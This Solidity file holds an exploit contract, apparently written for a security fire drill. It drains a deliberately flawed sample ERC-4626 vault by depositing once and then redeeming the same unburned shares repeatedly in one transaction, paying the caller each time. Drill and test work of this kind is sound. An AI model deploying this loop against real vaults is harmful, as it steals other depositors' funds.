// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";

/**
 * @dev The fire drill's one-transaction drain of the sample vault: deposits, then redeems the same shares again and
 * again in the same transaction (the vault's deliberate flaw never burns them), paying the caller, and stops at the
 * first redeem the vault refuses. Not product code.
 */
contract DrainLoop {
    using SafeERC20 for IERC20;

    /// @dev Emitted once per drain: how many redeems went through and the assets they were worth.
    event Drained(uint256 redeems, uint256 assets);

    /// @notice Deposits `assets` of the caller's into `vault`, then redeems the shares up to `times` times.
    function drain(IERC4626 vault, uint256 assets, uint256 times) external {
        IERC20 token = IERC20(vault.asset());
        token.safeTransferFrom(msg.sender, address(this), assets);
        token.forceApprove(address(vault), assets);
        uint256 shares = vault.deposit(assets, address(this));
        uint256 redeems;
        uint256 total;
        for (; redeems < times; ++redeems) {
            try vault.redeem(shares, msg.sender, address(this)) returns (uint256 paid) {
                total += paid;
            } catch {
                break;
            }
        }
        emit Drained(redeems, total);
    }
}
